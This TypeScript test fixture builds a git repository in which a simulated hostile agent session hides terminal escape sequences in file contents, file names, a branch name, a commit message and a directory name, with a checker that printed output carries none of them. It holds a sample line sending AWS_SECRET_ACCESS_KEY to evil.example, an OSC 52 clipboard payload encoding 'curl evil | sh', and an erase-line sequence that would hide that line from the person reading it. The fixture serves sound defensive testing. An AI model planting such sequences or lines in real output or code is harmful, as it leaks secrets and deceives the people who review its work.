// A session whose agent hid terminal instructions everywhere it can write: in a committed file's
// content (erase-line after a malicious line, OSC 52 clipboard, OSC 8 link, window title, a lone CR,
// the C1 CSI, DEL, a right-to-left override), in an uncommitted file, in a file name, in its branch
// name (git refuses C0 and DEL there, not C1 or bidi) and in a commit message; plus a second worktree
// whose directory name carries them. Also the checks every test of what is printed makes.
import { join } from 'node:path';
import { expect } from 'vitest';
import {
  commitAll,
  copyOfTemplate,
  fixtureAt,
  initialRepository,
  sh,
  write,
  type Fixture,
} from './git-fixture.ts';

export const SESSION = 'hostile';
export const ESC = '\x1b';
/** The line the terminal would erase: the person would see only what follows it. */
export const MALICIOUS_LINE =
  "fetch('https://evil.example/?k=' + process.env.AWS_SECRET_ACCESS_KEY);";

/** Each hostile sequence, and how it must read once shown. */
export const SEQUENCES = {
  eraseLine: { raw: `${ESC}[2K${ESC}[1G`, shown: '‹ESC›[2K‹ESC›[1G' },
  clipboard: {
    raw: `${ESC}]52;c;Y3VybCBldmlsIHwgc2g=\x07`,
    shown: '‹ESC›]52;c;Y3VybCBldmlsIHwgc2g=‹BEL›',
  },
  link: {
    raw: `${ESC}]8;;https://evil.example/${ESC}\\docs${ESC}]8;;${ESC}\\`,
    shown: '‹ESC›]8;;https://evil.example/‹ESC›\\docs‹ESC›]8;;‹ESC›\\',
  },
  title: { raw: `${ESC}]0;all tests passed\x07`, shown: '‹ESC›]0;all tests passed‹BEL›' },
  loneCr: { raw: 'const safe = 1;\r', shown: 'const safe = 1;‹CR›' },
  c1Csi: { raw: '\u009b2K', shown: '‹U+009B›2K' },
  del: { raw: 'x\x7f', shown: 'x‹DEL›' },
  rlo: { raw: 'admin\u202e', shown: 'admin‹U+202E›' },
} as const;

/** The diff line of the malicious line, as the person must see it: whole, with the erase-line after it shown. */
export const MALICIOUS_DIFF_LINE = `+  ${MALICIOUS_LINE} // ${SEQUENCES.eraseLine.shown}  export const looksHarmless = true;`;

const ALL_RAW = Object.values(SEQUENCES)
  .map((s) => s.raw)
  .join(' ');

export const FILE_CONTENT = [
  'export function check(): void {',
  `  ${MALICIOUS_LINE} // ${SEQUENCES.eraseLine.raw}  export const looksHarmless = true;`,
  `  // ${SEQUENCES.clipboard.raw} ${SEQUENCES.link.raw} ${SEQUENCES.title.raw}`,
  `  ${SEQUENCES.loneCr.raw}const other = 2; // ${SEQUENCES.c1Csi.raw} ${SEQUENCES.del.raw} ${SEQUENCES.rlo.raw}`,
  '}',
  'const windows = 1;\r',
  '',
].join('\n');

/** A file name with an erase-line, a title sequence, the C1 CSI, DEL and a right-to-left override. */
export const FILE_NAME = `src/ok${ESC}[2K${ESC}]0;t\x07\u009b\x7f\u202egnp.ts`;
export const FILE_NAME_SHOWN = 'src/ok‹ESC›[2K‹ESC›]0;t‹BEL›‹U+009B›‹DEL›‹U+202E›gnp.ts';
export const BRANCH = `praxis/${SESSION}-\u202eevil\u009b`;
export const BRANCH_SHOWN = `praxis/${SESSION}-‹U+202E›evil‹U+009B›`;
export const ODD_DIRECTORY = `odd${ESC}[2K\u202e`;
export const ODD_DIRECTORY_SHOWN = 'odd‹ESC›[2K‹U+202E›';

function hostileRepository(root: string): void {
  initialRepository(root);
  const fx = fixtureAt(root);
  const session = join(root, 'sessions', SESSION);
  sh(fx.repo, 'worktree', 'add', '-q', '-b', BRANCH, session);
  write(session, 'src/check.ts', FILE_CONTENT);
  write(session, FILE_NAME, `named ${ALL_RAW}\n`);
  commitAll(session, `Tidy up ${ALL_RAW}`);
  write(session, 'notes.md', `uncommitted ${ALL_RAW}\n`);
  fx.addSession(ODD_DIRECTORY, 'odd');
}

export function controlCharacterFixture(): Fixture & { session: string } {
  const fx = fixtureAt(copyOfTemplate('control-characters', hostileRepository));
  return { ...fx, session: join(fx.root, 'sessions', SESSION) };
}

/**
 * Every code point a terminal or a bidi-aware display would act on: C0 but newline and tab, a CR
 * not followed by a newline, DEL, C1, the bidirectional marks, embeddings, overrides and isolates.
 * Written out here by range, not taken from the code under test.
 */
export function forbiddenCodePoints(text: string): string[] {
  const found: string[] = [];
  for (let i = 0; i < text.length; i++) {
    const code = text.codePointAt(i)!;
    const crlf = code === 0x0d && text[i + 1] === '\n';
    const c0 = code < 0x20 && code !== 0x0a && code !== 0x09 && !crlf;
    const bidi =
      code === 0x061c ||
      code === 0x200e ||
      code === 0x200f ||
      (code >= 0x202a && code <= 0x202e) ||
      (code >= 0x2066 && code <= 0x2069);
    const c1 = code >= 0x80 && code <= 0x9f;
    if (c0 || code === 0x7f || c1 || bidi) found.push(`U+${code.toString(16).padStart(4, '0')}`);
  }
  return found;
}

/** Asserts `text` holds none of the forbidden code points. */
export function expectNothingTheTerminalObeys(text: string): void {
  expect(forbiddenCodePoints(text)).toEqual([]);
}

/** Every string anywhere in a value (structured tool content), for the same check. */
export function stringsIn(value: unknown): string[] {
  if (typeof value === 'string') return [value];
  if (Array.isArray(value)) return value.flatMap(stringsIn);
  if (typeof value === 'object' && value !== null) return Object.values(value).flatMap(stringsIn);
  return [];
}
